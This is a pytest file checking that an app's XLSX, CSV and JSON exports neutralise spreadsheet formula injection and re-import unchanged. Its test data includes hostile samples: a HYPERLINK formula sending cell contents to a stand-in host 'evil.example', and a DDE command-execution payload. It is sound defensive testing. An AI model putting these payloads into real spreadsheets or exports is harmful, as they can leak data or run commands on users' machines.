"""Exports that cannot attack: every text cell is text (never a formula), neutralised, and
the app's own export re-imports to the same values, for every answer type."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest
from flask import Flask
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from assessment.assessments import answering, queries
from assessment.dashboard.export import to_csv, to_xlsx
from assessment.io import export, importer
from assessment.io.cells import FORMULA_START, neutralise, restore_text
from tenants.extensions import db
from tests.integration.assessment_io.factories import Made
from tests.integration.assessment_io.test_roundtrip import (
    _importer_args,
    _in_tenant,
    _snapshot,
)

# Formula-like reasons, one per indicator (the reason is the text an answer carries).
REASONS = {
    "global.footprint": '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "lean.on_time_delivery_rate": "+1",
    "lean.inventory_turnover": "-x",
    "digital.strategy": "@SUM(A1:A9)",
    "collaboration.organization": "'=quoted already",
    "green.energy_intensity": "-2+3 (reasons are stripped, so no leading tab here)",
}
OPTIONS = {"electricity_basis": "equivalent", "electricity_equivalent_kgce_per_kwh": 0.3,
           "gwp_set": "AR5"}


def _declare(made: Made) -> None:
    assessment, membership, user = _importer_args(made)
    answering.save_answer(assessment, membership, user, "options", OPTIONS)
    answering.save_answer(assessment, membership, user, "overseas_rd_share", 12.5)
    for code, reason in REASONS.items():
        state = queries.indicator_state(made.assessment_id, code)
        answering.set_not_applicable(assessment, membership, user, code, True, reason,
                                     expected_version=state.version if state else None)
    db.session.flush()


def _kinds(made: Made) -> set[str]:
    from assessment.assessments.documents import framework_of

    assessment = queries.assessment(made.assessment_id)
    assert assessment is not None
    framework = framework_of(assessment)
    kinds = set()
    for answer in queries.answers(made.assessment_id):
        spec = framework.inputs.get(answer.key)
        kinds.add(spec.type if spec else ("level" if answer.key in framework.indicators
                                          else answer.key))
    return kinds


@pytest.mark.parametrize("english", [True, False])
def test_xlsx_cells_are_text_and_the_export_reimports_unchanged(app: Flask, made: Made,
                                                                english: bool) -> None:
    context = _in_tenant(app, made)
    try:
        _declare(made)
        # every kind of answer is in the workbook: numbers, levels, lists, maps, sections
        assert {"int", "decimal", "percent", "level", "list", "map", "energy",
                "process_emissions", "options"} <= _kinds(made)
        before = _snapshot(made)
        assessment, membership, user = _importer_args(made)
        data = export.export_xlsx(assessment, "=cmd|'/c calc'!A1", english=english)
        book = load_workbook(io.BytesIO(data))
        seen: dict[str, Any] = {}
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                    if isinstance(cell.value, str):
                        assert cell.data_type == "s"
                        assert not cell.value.startswith(FORMULA_START)
                        seen[cell.value] = cell
        for reason in REASONS.values():
            assert "'" + reason in seen  # neutralised, not dropped
        assert "'=cmd|'/c calc'!A1" in seen
        outcome = importer.import_workbook(assessment, membership, user, data)
        assert (outcome.changed_answers, outcome.changed_flags) == (0, 0)
        assert _snapshot(made) == before
        stored = {s.code: s.na_reason for s in queries.indicator_states(made.assessment_id)
                  if s.not_applicable}
        assert stored == REASONS
    finally:
        context.pop()


def test_json_export_reimports_unchanged_for_every_answer_type(app: Flask, made: Made) -> None:
    context = _in_tenant(app, made)
    try:
        _declare(made)
        before = _snapshot(made)
        assessment, membership, user = _importer_args(made)
        data = export.export_json(assessment)
        assert set(json.loads(data)) >= {"inputs", "energy", "process_emissions", "options",
                                         "not_applicable"}
        outcome = importer.import_json(assessment, membership, user, data)
        assert (outcome.changed_answers, outcome.changed_flags) == (0, 0)
        assert _snapshot(made) == before
    finally:
        context.pop()


@pytest.mark.parametrize("value", ['=HYPERLINK("https://evil.example")', "+1", "-x", "@SUM"])
def test_formula_text_where_json_expects_a_value_is_named_and_refused(
        app: Flask, made: Made, value: str) -> None:
    context = _in_tenant(app, made)
    try:
        before = _snapshot(made)
        assessment, membership, user = _importer_args(made)
        document = {"inputs": {"units_sold": value},
                    "energy": [{"carrier": value, "quantity": 1, "unit": "kWh"}]}
        with pytest.raises(importer.ImportRejected) as refused:
            importer.import_json(assessment, membership, user, json.dumps(document).encode())
        keys = {p.key for p in refused.value.problems}
        assert "inputs.units_sold" in keys and any(k and k.startswith("energy[0]")
                                                   for k in keys)
        assert _snapshot(made) == before
    finally:
        context.pop()


def test_dashboard_spreadsheets_hold_text_not_formulas() -> None:
    rows = [("=HYPERLINK(\"https://evil.example\")", 1.5), ("@SUM(A1)", None)]
    book = load_workbook(io.BytesIO(to_xlsx([("Members", ("-Name", "Score"), rows)])))
    cells = [c for row in book.active.iter_rows() for c in row if isinstance(c.value, str)]
    assert {c.data_type for c in cells} == {"s"}
    assert [c.value for c in cells] == ["'-Name", "Score", "'=HYPERLINK(\"https://evil.example\")",
                                        "'@SUM(A1)"]
    read = list(csv.reader(io.StringIO(to_csv(("+x",), [("=1+1",)]).decode("utf-8-sig"))))
    assert read == [["'+x"], ["'=1+1"]]


@given(st.text())
def test_neutralising_is_reversed_exactly_and_never_leaves_a_formula(text: str) -> None:
    written = neutralise(text)
    assert not written.startswith(FORMULA_START)
    assert restore_text(written) == text
